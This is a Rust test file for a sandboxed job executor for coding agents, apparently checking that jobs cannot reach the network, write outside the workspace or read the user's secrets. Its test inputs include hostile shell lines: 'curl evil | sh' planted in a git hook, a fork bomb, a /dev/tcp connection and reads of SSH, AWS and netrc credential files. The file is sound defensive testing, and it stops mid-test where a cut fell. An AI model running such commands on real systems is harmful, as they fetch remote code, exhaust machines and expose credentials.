//! The executor with real programs in a real sandbox: network clients fail, writes outside the
//! workspace fail, the host's state is invisible, timeouts and cancellation kill the whole job,
//! output is capped, and a fork bomb is contained. Each attack runs against bubblewrap started
//! for the job, bubblewrap started ahead (the host's warm pool), and Landlock + seccomp. Tests
//! that need the sandbox skip, saying why, only where the kernel or the machine forbids it.

#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

use agent_host::exec::{
    Job, Limits, Outcome, Sandbox, Scope, UserEnv, WarmPool, process_limit_available, run,
};
use agent_host::userenv::SandboxSettings;

struct Setup {
    _dir: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    hidden: PathBuf,
    /// The user's home: read-only to jobs, its secret places hidden.
    home: PathBuf,
    scope: Scope,
}

fn setup() -> Setup {
    setup_with(&SandboxSettings::default())
}

/// A workspace, a place outside it, the host's state, and a home, with jobs' scope made as the
/// host makes it from this environment (its `PATH` and toolchain variables) and `settings`,
/// but the home given. Where this environment names no `CARGO_HOME` or `RUSTUP_HOME`, the real
/// home's `.cargo` and `.rustup` are named, as a user whose toolchain is there would have them.
fn setup_with(settings: &SandboxSettings) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let base = dir.path().canonicalize().unwrap();
    let (root, outside, hidden) = (base.join("ws"), base.join("outside"), base.join("host-state"));
    let home = base.join("home");
    for d in [&root, &outside, &hidden, &home] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(hidden.join("host.key"), "PRIVATE KEY").unwrap();
    let mut vars: BTreeMap<String, String> = std::env::vars().collect();
    if let Some(real_home) = vars.get("HOME").cloned() {
        for (name, dir) in [("CARGO_HOME", ".cargo"), ("RUSTUP_HOME", ".rustup")] {
            let dir = PathBuf::from(&real_home).join(dir);
            if !vars.contains_key(name) && dir.is_dir() {
                vars.insert(name.into(), dir.display().to_string());
            }
        }
    }
    vars.insert("HOME".into(), home.display().to_string());
    let user = UserEnv::new(vars, settings, Some(hidden.join("sandbox-cache")));
    let layer = Some(agent_host_bin().to_path_buf());
    let scope = Scope { roots: vec![root.clone()], hidden: vec![hidden.clone()], user, layer };
    Setup { _dir: dir, root, outside, hidden, home, scope }
}

/// A way to run a job: a sandbox, started for the job or (bubblewrap) ahead of it.
#[derive(Debug, Clone)]
struct Runner {
    sandbox: Sandbox,
    warm: bool,
}

fn agent_host_bin() -> &'static std::path::Path {
    std::path::Path::new(env!("CARGO_BIN_EXE_agent-host"))
}

/// Every sandbox that can run here: bubblewrap (started for the job, and started ahead by a
/// warm pool), and Landlock + seccomp through the real `agent-host` binary. Each attack test
/// runs against all of them.
fn sandboxes() -> Vec<Runner> {
    let mut out = Vec::new();
    match Sandbox::bubblewrap() {
        Ok(s) => {
            out.push(Runner { sandbox: s.clone(), warm: false });
            out.push(Runner { sandbox: s, warm: true });
        }
        Err(e) => println!("SKIPPED for bubblewrap: {e}"),
    }
    match Sandbox::landlock(agent_host_bin()) {
        Ok(s) => out.push(Runner { sandbox: s, warm: false }),
        Err(e) => println!("SKIPPED for Landlock: {e}"),
    }
    out
}

fn job(s: &Setup, script: &str) -> Job {
    Job {
        argv: vec!["/bin/sh".into(), "-c".into(), script.into()],
        cwd: s.root.clone(),
        env: BTreeMap::new(),
        network: false,
        timeout: Duration::from_secs(20),
    }
}

fn exec(sb: &Runner, s: &Setup, job: &Job) -> Outcome {
    exec_with(sb, s, job, &Limits::default())
}

fn exec_with(sb: &Runner, s: &Setup, job: &Job, limits: &Limits) -> Outcome {
    exec_cancellable(sb, s, job, limits, &Arc::new(AtomicBool::new(false)))
}

fn exec_cancellable(
    sb: &Runner,
    s: &Setup,
    job: &Job,
    limits: &Limits,
    cancel: &Arc<AtomicBool>,
) -> Outcome {
    if !sb.warm {
        return run(&sb.sandbox, job, &s.scope, limits, cancel).unwrap();
    }
    let pool = WarmPool::start(&sb.sandbox, agent_host_bin(), &s.scope, limits).unwrap();
    assert!(pool.wait_ready(Duration::from_secs(20)), "no sandbox was started ahead");
    let out = pool.run(job, cancel).unwrap();
    // A job that needs the network gets a sandbox of its own; every other one the warm one.
    assert_eq!(pool.warm_runs(), u64::from(!job.network), "{job:?}");
    out
}

#[test]
fn runs_in_the_workspace_and_reports_exit_and_output() {
    for sb in sandboxes() {
        let s = setup();
        let out = exec(&sb, &s, &job(&s, "pwd; echo err >&2; echo made > here.txt; exit 3"));
        assert_eq!(out.exit_code, Some(3));
        let text = String::from_utf8_lossy(&out.output);
        assert!(text.contains(s.root.to_str().unwrap()) && text.contains("err"), "{text}");
        assert_eq!(std::fs::read_to_string(s.root.join("here.txt")).unwrap(), "made\n");
    }
}

#[test]
fn network_is_off_unless_allowed() {
    for sb in sandboxes() {
        let s = setup();
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let mut j = job(&s, "");
        j.argv =
            vec!["/bin/bash".into(), "-c".into(), format!("echo hi > /dev/tcp/127.0.0.1/{port}")];
        let off = exec(&sb, &s, &j);
        assert_ne!(
            off.exit_code,
            Some(0),
            "connected without network: {:?}",
            String::from_utf8_lossy(&off.output)
        );
        j.network = true;
        let on = exec(&sb, &s, &j);
        assert_eq!(on.exit_code, Some(0), "{}", String::from_utf8_lossy(&on.output));
    }
}

#[test]
fn writes_outside_the_workspace_fail_and_tmp_is_private() {
    for sb in sandboxes() {
        let s = setup();
        let target = s.outside.join("escaped");
        let out = exec(&sb, &s, &job(&s, &format!("echo x > '{}'", target.display())));
        assert_ne!(out.exit_code, Some(0));
        assert!(!target.exists());
        for path in ["/etc/agent-host-probe", "/usr/agent-host-probe"] {
            let out = exec(&sb, &s, &job(&s, &format!("echo x > {path}")));
            assert_ne!(out.exit_code, Some(0), "{path} was writable");
        }
        // The job's temporary directory ($TMPDIR: a private /tmp under bubblewrap, a private
        // directory under Landlock) is writable, and gone for the host afterwards.
        let name = format!("agent-host-private-{}", std::process::id());
        let out = exec(
            &sb,
            &s,
            &job(
                &s,
                &format!(
                    "echo x > \"$TMPDIR/{name}\" && cat \"$TMPDIR/{name}\" && echo \"$TMPDIR\""
                ),
            ),
        );
        assert_eq!(out.exit_code, Some(0), "{sb:?}: {}", String::from_utf8_lossy(&out.output));
        let tmpdir = String::from_utf8_lossy(&out.output).lines().last().unwrap().to_string();
        assert!(
            !PathBuf::from(&tmpdir).join(&name).exists(),
            "the job's temp dir leaked to the host"
        );
        assert!(!PathBuf::from("/tmp").join(&name).exists(), "the job wrote the host's /tmp");
    }
}

#[test]
fn the_hosts_state_is_invisible() {
    for sb in sandboxes() {
        let s = setup();
        let out =
            exec(&sb, &s, &job(&s, &format!("cat '{}'", s.hidden.join("host.key").display())));
        assert_ne!(out.exit_code, Some(0));
        assert!(!String::from_utf8_lossy(&out.output).contains("PRIVATE KEY"));
        // And the environment is clean: cargo set CARGO_MANIFEST_DIR for this test process, and
        // the job must not inherit it.
        let out = exec(&sb, &s, &job(&s, "env"));
        let env = String::from_utf8_lossy(&out.output);
        assert!(!env.contains("CARGO_MANIFEST_DIR"), "{env}");
    }
}

#[test]
fn a_timeout_kills_the_whole_job() {
    for sb in sandboxes() {
        let s = setup();
        let mut j = job(&s, "sleep 30 & sleep 30 & wait");
        j.timeout = Duration::from_millis(300);
        let start = Instant::now();
        let out = exec(&sb, &s, &j);
        assert!(out.timed_out);
        assert!(start.elapsed() < Duration::from_secs(10), "took {:?}", start.elapsed());
    }
}

#[test]
fn cancel_kills_the_whole_job() {
    for sb in sandboxes() {
        let s = setup();
        let cancel = Arc::new(AtomicBool::new(false));
        let flag = cancel.clone();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(200));
            flag.store(true, std::sync::atomic::Ordering::Relaxed);
        });
        let start = Instant::now();
        let j = job(&s, "sleep 30 & sleep 30; wait");
        let out = exec_cancellable(&sb, &s, &j, &Limits::default(), &cancel);
        assert!(out.cancelled);
        assert!(start.elapsed() < Duration::from_secs(10));
    }
}

#[test]
fn output_is_capped_with_a_marker() {
    for sb in sandboxes() {
        let s = setup();
        let limits = Limits { output_cap: 1000, ..Limits::default() };
        let j = job(&s, "yes | head -c 3000000");
        let out = exec_with(&sb, &s, &j, &limits);
        assert!(out.truncated);
        assert_eq!(out.exit_code, Some(0));
        let text = String::from_utf8_lossy(&out.output);
        assert!(
            text.ends_with("[output truncated: 2999000 more bytes not shown]\n"),
            "{}",
            &text[text.len() - 80..]
        );
    }
}

#[test]
fn a_fork_bomb_is_contained() {
    for sb in sandboxes() {
        let Some(how) = process_limit_available() else {
            println!(
                "SKIPPED: no process limit can be set here (running as root without a writable pids cgroup)"
            );
            return;
        };
        let s = setup();
        let limits = Limits { max_processes: 64, ..Limits::default() };
        let mut j = job(&s, "");
        j.argv = vec!["/bin/bash".into(), "-c".into(), "b() { b | b & }; b; sleep 10".into()];
        j.timeout = Duration::from_secs(3);
        let start = Instant::now();
        let out = exec_with(&sb, &s, &j, &limits);
        assert!(start.elapsed() < Duration::from_secs(20));
        assert!(out.timed_out);
        // The limit was reached: bash reports forks refused.
        let text = String::from_utf8_lossy(&out.output);
        assert!(
            text.contains("Resource temporarily unavailable"),
            "{}",
            &text[..text.len().min(300)]
        );
        // The machine is still fine: a new job runs.
        let after = exec(&sb, &s, &job(&s, "echo alive"));
        assert_eq!(String::from_utf8_lossy(&after.output), "alive\n");
        println!(
            "fork bomb contained by {how}: timed out {}, {} bytes of output",
            out.timed_out,
            out.output.len()
        );
    }
}

#[test]
fn unsandboxed_mode_still_times_out_and_caps() {
    let s = setup();
    let mut j = job(&s, "echo $HOME; sleep 30");
    j.timeout = Duration::from_millis(300);
    let out = run(
        &Sandbox::Unsandboxed,
        &j,
        &s.scope,
        &Limits::default(),
        &Arc::new(AtomicBool::new(false)),
    )
    .unwrap();
    assert!(out.timed_out);
    assert!(String::from_utf8_lossy(&out.output).contains(s.home.to_str().unwrap()));
}

#[test]
fn exit_codes_output_and_leftover_processes_in_every_sandbox() {
    for sb in sandboxes() {
        let s = setup();
        let out = exec(&sb, &s, &job(&s, "echo out; echo err >&2; exit 7"));
        assert_eq!(out.exit_code, Some(7), "{sb:?}");
        assert_eq!(String::from_utf8_lossy(&out.output), "out\nerr\n", "{sb:?}");
        // Killed by a signal: under bubblewrap, started ahead or not, 128 + its number, as
        // bubblewrap and shells say it; Landlock's helper becomes the command, so no code.
        let signalled = if matches!(sb.sandbox, Sandbox::Bubblewrap(_)) { Some(137) } else { None };
        assert_eq!(exec(&sb, &s, &job(&s, "kill -9 $$")).exit_code, signalled, "{sb:?}");
        // A process left behind ends with the job, and does not hold its result.
        let start = Instant::now();
        let out = exec(&sb, &s, &job(&s, "(sleep 1; touch late) & echo started"));
        assert_eq!((out.exit_code, out.timed_out), (Some(0), false), "{sb:?}");
        assert!(start.elapsed() < Duration::from_millis(900), "{sb:?}: {:?}", start.elapsed());
        std::thread::sleep(Duration::from_millis(1500));
        assert!(!s.root.join("late").exists(), "{sb:?}: a process outlived its job");
    }
}

#[test]
fn programs_are_found_in_path_and_keep_the_name_they_were_called_by() {
    for sb in sandboxes() {
        let s = setup();
        let mut j = job(&s, "");
        j.argv = vec!["sh".into(), "-c".into(), "echo $0".into()];
        let out = exec(&sb, &s, &j);
        assert_eq!(
            (out.exit_code, String::from_utf8_lossy(&out.output).as_ref()),
            (Some(0), "sh\n")
        );
        j.argv = vec!["no-such-program-here".into()];
        let out = exec(&sb, &s, &j);
        assert!(!matches!(out.exit_code, Some(0) | None), "{sb:?}: {out:?}");
        assert!(String::from_utf8_lossy(&out.output).contains("no-such-program-here"), "{sb:?}");
    }
}

#[test]
fn unsandboxed_a_background_process_holding_the_output_does_not_hold_the_result() {
    let s = setup();
    let run_script = |script: &str| {
        let start = Instant::now();
        let out = run(
            &Sandbox::Unsandboxed,
            &job(&s, script),
            &s.scope,
            &Limits::default(),
            &Arc::new(AtomicBool::new(false)),
        )
        .unwrap();
        (out, start.elapsed())
    };
    // Left in the command's process group: killed a moment after the command exits.
    let (out, took) = run_script("echo before; sleep 30 & echo after");
    assert_eq!(out.exit_code, Some(0));
    assert!(!out.timed_out);
    assert_eq!(String::from_utf8_lossy(&out.output), "before\nafter\n");
    assert!(took < Duration::from_secs(5), "took {took:?}");
    // Out of the group (a session of its own): the output stops being read instead.
    let (out, took) = run_script("echo before; setsid sleep 3 & echo after");
    assert_eq!(out.exit_code, Some(0));
    assert!(String::from_utf8_lossy(&out.output).starts_with("before\n"));
    assert!(took < Duration::from_secs(2), "took {took:?}");
}

#[test]
fn doctor_says_which_sandbox_jail_and_hook_mode_are_in_force() {
    let home = tempfile::tempdir().unwrap();
    // A project whose Claude Code settings call the hook in place, and a user's that rewrite.
    let (user, project) = (home.path().join("user"), home.path().join("project"));
    let hook = |command: &str| {
        serde_json::json!({"hooks": {"PreToolUse": [{"matcher": "*", "hooks": [
            {"type": "command", "command": command}
        ]}]}})
        .to_string()
    };
    for (dir, command) in [
        (&user, "agent-host hook claude-code"),
        (&project, "agent-host hook claude-code --in-place"),
    ] {
        std::fs::create_dir_all(dir.join(".claude")).unwrap();
        std::fs::write(dir.join(".claude/settings.json"), hook(command)).unwrap();
    }
    // A secret in the user's home, and a cache the settings make writable.
    std::fs::create_dir_all(user.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.path().join("config")).unwrap();
    std::fs::write(
        home.path().join("config/settings.json"),
        r#"{"sandbox": {"writable": ["~/.cargo/registry"], "env": ["MY_TOOL_HOME"]}}"#,
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_agent-host"))
        .arg("doctor")
        .env("AGENT_HOST_HOME", home.path())
        .env("HOME", &user)
        .env("PATH", format!("/opt/none/bin:relative:{}", std::env::var("PATH").unwrap()))
        .env("MY_TOOL_HOME", "/opt/tool")
        .current_dir(&project)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("sockets: owner") && text.contains("agent/agent.sock"), "{text}");
    // What jobs see of the user's machine.
    let user_real = user.canonicalize().unwrap();
    assert!(text.contains("jobs:    PATH /opt/none/bin:/"), "{text}");
    assert!(!text.contains(":relative:"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.starts_with("jobs:    variables passed:") && l.contains("MY_TOOL_HOME")),
        "{text}"
    );
    assert!(text.contains(&format!("jobs:    HOME {} (read-only)", user_real.display())), "{text}");
    assert!(
        text.contains(&format!("secrets hidden here: {}", user_real.join(".ssh").display())),
        "{text}"
    );
    assert!(text.contains("jobs' own caches (writable)"), "{text}");
    assert!(text.contains("WRITABLE by jobs (settings; a job could poison it)"), "{text}");
    let user_line = format!("hook:    {}", user.join(".claude/settings.json").display());
    assert!(
        text.lines().any(|l| l.starts_with(&user_line) && l.contains("through the host's sandbox")),
        "{text}"
    );
    assert!(text.lines().any(|l| l.contains("project/.claude/settings.json: IN PLACE")), "{text}");
    match Sandbox::bubblewrap() {
        Ok(_) => {
            assert!(text.contains("jail:    `agent-host run` starts its program jailed"), "{text}")
        }
        Err(_) => assert!(text.contains("jail:    NONE"), "{text}"),
    }
    match Sandbox::detect(Some(std::path::Path::new(env!("CARGO_BIN_EXE_agent-host")))) {
        Ok(_) => {
            assert_eq!(out.status.code(), Some(0), "{text}");
            assert!(
                text.contains("sandbox: bubblewrap") || text.contains("sandbox: Landlock"),
                "{text}"
            );
            if text.contains("sandbox: bubblewrap") {
                assert!(text.contains("\nsecrets: hidden by bubblewrap"), "{text}");
            }
        }
        Err(_) => {
            assert_eq!(out.status.code(), Some(1), "{text}");
            assert!(text.contains("UNSANDBOXED"), "{text}");
        }
    }
    assert!(text.contains("files:   confined by openat2"), "{text}");
}

/// A protected name that is a symbolic link is refused, not followed: bubblewrap would bind
/// what it leads to (`.codex -> /tmp` brought the machine's `/tmp` back in), and the link itself
/// could be replaced.
#[test]
fn a_protected_name_that_is_a_symbolic_link_stops_every_job() {
    let Ok(bwrap) = Sandbox::bubblewrap() else {
        println!("SKIPPED: no bubblewrap");
        return;
    };
    for (name, target) in
        [(".codex", "/tmp"), (".gemini", "host-state"), (".git/hooks", "elsewhere")]
    {
        let s = setup();
        std::fs::create_dir_all(s.root.join(".git")).unwrap();
        std::fs::create_dir_all(s.root.join("elsewhere")).unwrap();
        let target = if target == "host-state" { s.hidden.clone() } else { PathBuf::from(target) };
        std::os::unix::fs::symlink(&target, s.root.join(name)).unwrap();
        let cancel = Arc::new(AtomicBool::new(false));
        let refused = run(&bwrap, &job(&s, "echo ran"), &s.scope, &Limits::default(), &cancel);
        let message = refused.map(|o| String::from_utf8_lossy(&o.output).into_owned()).unwrap_err();
        assert!(message.to_string().contains("symbolic link"), "{name}: {message}");
    }
}

/// The user's runtime sockets (the session bus, through which systemd runs anything) are
/// hidden where they exist.
#[test]
fn the_users_runtime_sockets_are_hidden() {
    let runtime = PathBuf::from(format!("/run/user/{}", rustix::process::getuid().as_raw()));
    if !runtime.is_dir() {
        println!("SKIPPED: no {} here", runtime.display());
        return;
    }
    for sb in sandboxes().into_iter().filter(|s| matches!(s.sandbox, Sandbox::Bubblewrap(_))) {
        let s = setup();
        let out = exec(&sb, &s, &job(&s, &format!("ls -A {} | wc -l", runtime.display())));
        assert_eq!(String::from_utf8_lossy(&out.output).trim(), "0", "{sb:?}");
    }
}

#[test]
fn git_hooks_git_config_and_agent_settings_stay_read_only_inside_the_workspace() {
    // Under bubblewrap they are read-only mounts. Landlock cannot carve them out of a writable
    // root (its rights are inherited), so there they are protected by policy alone.
    for sb in sandboxes().into_iter().filter(|s| matches!(s.sandbox, Sandbox::Bubblewrap(_))) {
        let s = setup();
        std::fs::create_dir_all(s.root.join(".git/hooks")).unwrap();
        std::fs::write(s.root.join(".git/config"), "[core]\n").unwrap();
        std::fs::create_dir_all(s.root.join(".claude")).unwrap();
        for script in [
            "echo '{\"hooks\":{}}' > .claude/settings.json",
            "echo '{\"permissions\":{\"allow\":[\"Bash(*)\"]}}' > .claude/settings.local.json",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
            "rm -rf .git/hooks",
            "mv .git/config .git/config.old",
            // `.git` itself is pinned: it cannot be moved aside and remade.
            "mv .git .g && mkdir -p .git && printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config",
        ] {
            let out = exec(&sb, &s, &job(&s, script));
            assert_ne!(out.exit_code, Some(0), "{sb:?}: `{script}` succeeded");
        }
        assert!(!s.root.join(".git/hooks/pre-commit").exists());
        assert_eq!(std::fs::read_to_string(s.root.join(".git/config")).unwrap(), "[core]\n");
        assert_eq!(std::fs::read_dir(s.root.join(".claude")).unwrap().count(), 0);
        // The rest of the workspace stays writable.
        let out = exec(&sb, &s, &job(&s, "mkdir -p src && echo ok > src/x && cat src/x"));
        assert_eq!(out.exit_code, Some(0), "{sb:?}: {}", String::from_utf8_lossy(&out.output));
    }
}

/// A warm pool for `s` with its first sandbox started; `None`, saying so, without bubblewrap.
fn ready_pool(s: &Setup) -> Option<WarmPool> {
    let bwrap = match Sandbox::bubblewrap() {
        Ok(b) => b,
        Err(e) => {
            println!("SKIPPED: bubblewrap cannot run here: {e}");
            return None;
        }
    };
    let pool = WarmPool::start(&bwrap, agent_host_bin(), &s.scope, &Limits::default()).unwrap();
    assert!(pool.wait_ready(Duration::from_secs(20)), "no sandbox was started ahead");
    Some(pool)
}

/// The Landlock layer of a sandbox started ahead lists the home's entries when it starts: a
/// file made in the home since then would have no rule there, so that sandbox is not used, and
/// the job reads the new file (its secrets stay unreadable all the same).
#[test]
fn a_file_made_in_the_home_after_a_sandbox_started_ahead_reads_in_the_next_job() {
    let s = setup();
    std::fs::write(s.home.join(".netrc"), "SECRET PASSWORD").unwrap();
    let Some(pool) = ready_pool(&s) else { return };
    // Past the coarsest timestamp step, so that the home's change shows.
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(s.home.join("made-after.txt"), "made after").unwrap();
    let out = pool
        .run(&job(&s, "cat ~/made-after.txt; echo; cat ~/.netrc; echo done"), &Arc::default())
        .unwrap();
    let text = String::from_utf8_lossy(&out.output);
    assert!(text.contains("made after\n") && text.contains("done"), "{text}");
    assert!(!text.contains("SECRET"), "{text}");
    assert_eq!(pool.warm_runs(), 0, "the sandbox started before the change was used");
}

#[test]
fn a_process_left_behind_in_a_sandbox_started_ahead_ends_before_the_next_one_is_ready() {
    let s = setup();
    let Some(pool) = ready_pool(&s) else { return };
    let cancel = Arc::new(AtomicBool::new(false));
    // Detached from the job's output, so that nothing waits for it.
    let start = Instant::now();
    let out = pool
        .run(&job(&s, "(sleep 1; touch late) >/dev/null 2>&1 & echo started"), &cancel)
        .unwrap();
    assert_eq!((out.exit_code, pool.warm_runs()), (Some(0), 1));
    assert!(start.elapsed() < Duration::from_millis(900), "{:?}", start.elapsed());
    // The used sandbox is taken down before the next one starts; the pool lives on meanwhile.
    assert!(pool.wait_ready(Duration::from_secs(20)));
    std::thread::sleep(Duration::from_millis(1500));
    assert!(!s.root.join("late").exists(), "a process outlived its job's sandbox");
    drop(pool);
}

#[test]
fn a_sandbox_started_ahead_is_not_used_once_the_workspace_changed_under_it() {
    let s = setup();
    let Some(pool) = ready_pool(&s) else { return };
    // `.git/hooks` appears after the sandbox was made: that sandbox would leave it writable.
    std::fs::create_dir_all(s.root.join(".git/hooks")).unwrap();
    let cancel = Arc::new(AtomicBool::new(false));
    let out = pool.run(&job(&s, "echo evil > .git/hooks/pre-commit"), &cancel).unwrap();
    assert_ne!(out.exit_code, Some(0), "{}", String::from_utf8_lossy(&out.output));
    assert!(!s.root.join(".git/hooks/pre-commit").exists());
    assert_eq!(pool.warm_runs(), 0, "the stale sandbox was used");
    // The next one is made with the hooks protected, and used.
    assert!(pool.wait_ready(Duration::from_secs(20)));
    let mut j = job(&s, "echo evil > .git/hooks/pre-commit; pwd; echo \"$HOME $FROM_JOB\"");
    j.cwd = s.root.join(".git");
    j.env.insert("FROM_JOB".into(), "set by the job".into());
    let out = pool.run(&j, &cancel).unwrap();
    assert_eq!(pool.warm_runs(), 1);
    let text = String::from_utf8_lossy(&out.output);
    assert!(!s.root.join(".git/hooks/pre-commit").exists(), "{text}");
    // The job's own directory and environment, not the launcher's.
    let dir = s.root.join(".git");
    assert!(
        text.contains(&format!("{}\n{} set by the job", dir.display(), s.home.display())),
        "{text}"
    );
}

/// A unix socket outside the workspace (the host's owner socket is one) is out of reach of a
/// job: hidden under bubblewrap, refused outright under Landlock, which cannot keep a socket
/// path from `connect()`.
#[test]
fn a_unix_socket_outside_is_out_of_reach() {
    for sb in sandboxes() {
        let s = setup();
        let path = s.outside.join("owner.sock");
        let _listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        let script = format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); print('connected')\"",
            path.display()
        );
        let out = exec(&sb, &s, &job(&s, &script));
        let said = String::from_utf8_lossy(&out.output).into_owned();
        assert!(!said.contains("connected"), "{sb:?}: {said}");
        assert_ne!(out.exit_code, Some(0), "{sb:?}: {said}");
    }
}

/// The home is the user's, read-only, with its secret places hidden (directories, files, a
/// link to a secret, and a place the settings add), while the rest of it reads; the jobs' own
/// cache is writable; only the listed variables pass.
#[test]
fn the_home_reads_but_its_secrets_are_hidden_and_only_the_jobs_cache_is_written() {
    let settings = SandboxSettings { hide: vec!["~/vault".into()], ..Default::default() };
    for sb in sandboxes() {
        let s = setup_with(&settings);
        let home = &s.home;
        std::fs::write(home.join("notes.txt"), "readable notes").unwrap();
        for (file, text) in [
            (".ssh/id_ed25519", "SSH KEY"),
            (".aws/credentials", "AWS KEY"),
            (".config/gh/hosts.yml", "GH TOKEN"),
            (".netrc", "NETRC PASSWORD"),
            (".cargo/credentials.toml", "CARGO TOKEN"),
            ("vault/x", "VAULT"),
            ("elsewhere/creds", "LINKED CREDENTIALS"),
        ] {
            std::fs::create_dir_all(home.join(file).parent().unwrap()).unwrap();
            std::fs::write(home.join(file), text).unwrap();
        }
        std::os::unix::fs::symlink(home.join("elsewhere/creds"), home.join(".git-credentials"))
            .unwrap();
        let script = "cat ~/notes.txt; echo; \
             cat ~/.ssh/id_ed25519 ~/.aws/credentials ~/.config/gh/hosts.yml ~/.netrc \
                 ~/.cargo/credentials.toml ~/vault/x ~/.git-credentials 2>/dev/null; \
             ls -A ~/.ssh ~/.aws; \
             touch ~/new 2>/dev/null && echo HOME-WRITTEN; \
             echo cached > \"$XDG_CACHE_HOME/c\" && cat \"$XDG_CACHE_HOME/c\"; \
             echo \"npm=$npm_config_cache go=$GOCACHE\"; env";
        let out = exec(&sb, &s, &job(&s, script));
        let text = String::from_utf8_lossy(&out.output);
        assert!(text.starts_with("readable notes"), "{sb:?}: {text}");
        for secret in ["SSH KEY", "AWS KEY", "GH TOKEN", "NETRC", "CARGO TOKEN", "VAULT", "LINKED"]
        {
            assert!(!text.contains(secret), "{sb:?}: {secret} was read: {text}");
        }
        assert!(!text.contains("id_ed25519"), "{sb:?}: {text}");
        assert!(!text.contains("HOME-WRITTEN") && !home.join("new").exists(), "{sb:?}");
        assert!(text.contains("\ncached\n"), "{sb:?}: {text}");
        let cache = s.hidden.join("sandbox-cache");
        assert!(text.contains(&format!(
            "npm={}/npm go={}/go-build",
            cache.display(),
            cache.display()
        )));
        assert!(text.contains(&format!("HOME={}\n", home.display())), "{sb:?}: {text}");
        assert!(!text.contains("CARGO_MANIFEST_DIR"), "{sb:?}: {text}");
        // Still outside the job: the secrets are there, untouched.
        assert_eq!(std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap(), "SSH KEY");
    }
}

/// `cargo test` in a Rust project with no dependencies, with the toolchain this machine has
/// (found through `PATH`, `CARGO_HOME` and `RUSTUP_HOME`, as at the user's prompt).
#[test]
fn cargo_test_runs_with_the_users_toolchain() {
    let s = setup();
    let Some(_) = which("cargo", &s.scope.user.path) else {
        println!("SKIPPED: no cargo in PATH");
        return;
    };
    std::fs::write(
        s.root.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::create_dir_all(s.root.join("src")).unwrap();
    std::fs::write(
        s.root.join("src/lib.rs"),
        "pub fn add(a: u32, b: u32) -> u32 { a + b }\n\n#[test]\nfn adds() { assert_eq!(add(2, 2), 4); }\n",
    )
    .unwrap();
    for sb in sandboxes() {
        let mut j = job(&s, "");
        j.argv = vec!["cargo".into(), "test".into()];
        j.timeout = Duration::from_secs(240);
        let out = exec(&sb, &s, &j);
        let text = String::from_utf8_lossy(&out.output);
        assert_eq!(out.exit_code, Some(0), "{sb:?}: {text}");
        assert!(text.contains("test adds ... ok"), "{sb:?}: {text}");
    }
}

/// `npm test` in a Node project, where Node is installed; npm's cache and logs go to the jobs'
/// own cache.
#[test]
fn npm_test_runs_where_node_is_installed() {
    let s = setup();
    if which("npm", &s.scope.user.path).is_none() || which("node", &s.scope.user.path).is_none() {
        println!("SKIPPED: no node and npm in PATH");
        return;
    }
    std::fs::write(
        s.root.join("package.json"),
        r#"{"name":"tiny","version":"1.0.0","private":true,"scripts":{"test":"node test.js"}}"#,
    )
    .unwrap();
    std::fs::write(
        s.root.join("test.js"),
        "const assert = require('node:assert'); assert.strictEqual(2 + 2, 4); console.log('node test passed');\n",
    )
    .unwrap();
    for sb in sandboxes() {
        let mut j = job(&s, "");
        j.argv = vec!["npm".into(), "test".into()];
        j.timeout = Duration::from_secs(120);
        let out = exec(&sb, &s, &j);
        let text = String::from_utf8_lossy(&out.output);
        assert_eq!(out.exit_code, Some(0), "{sb:?}: {text}");
        assert!(text.contains("node test passed"), "{sb:?}: {text}");
    }
}

/// The first `name` in `path`'s directories.
fn which(name: &str, path: &str) -> Option<PathBuf> {
    path.split(':').map(|d| PathBuf::from(d).join(name)).find(|p| p.is_file())
}

/// `"home": "toolchains"`: the home hidden but for the toolchains' directories and git's
/// configuration (less their secrets), with a workspace inside the home still writable.
#[test]
fn the_home_can_be_hidden_but_for_the_toolchains() {
    for sb in sandboxes() {
        let base = setup();
        let home = base.home.clone();
        let ws = home.join("proj");
        for dir in [".local/bin", ".cargo", "proj", "docs"] {
            std::fs::create_dir_all(home.join(dir)).unwrap();
        }
        std::fs::write(home.join(".local/bin/hello"), "#!/bin/sh\necho hello from the home\n")
            .unwrap();
        let hello = home.join(".local/bin/hello");
        let mut mode = std::fs::metadata(&hello).unwrap().permissions();
        std::os::unix::fs::PermissionsExt::set_mode(&mut mode, 0o755);
        std::fs::set_permissions(&hello, mode).unwrap();
        std::fs::write(home.join(".gitconfig"), "[user]\n\tname = Someone\n").unwrap();
        std::fs::write(home.join(".cargo/config.toml"), "# cargo settings\n").unwrap();
        std::fs::write(home.join(".cargo/credentials.toml"), "CARGO TOKEN").unwrap();
        std::fs::write(home.join("notes.txt"), "PRIVATE NOTES").unwrap();
        std::fs::write(home.join("docs/shown.txt"), "shown by settings").unwrap();
        let settings = SandboxSettings {
            home: agent_host::userenv::HomeView::Toolchains,
            show: vec!["~/docs".into()],
            path: Some(format!("{}:/usr/bin:/bin", home.join(".local/bin").display())),
            ..Default::default()
        };
        let vars = [("HOME".to_string(), home.display().to_string())];
        let user = UserEnv::new(vars, &settings, Some(base.hidden.join("sandbox-cache")));
        let layer = Some(agent_host_bin().to_path_buf());
        let scope =
            Scope { roots: vec![ws.clone()], hidden: vec![base.hidden.clone()], user, layer };
        let mut j = job(
            &base,
            "hello; cat ~/.gitconfig ~/.cargo/config.toml ~/docs/shown.txt; \
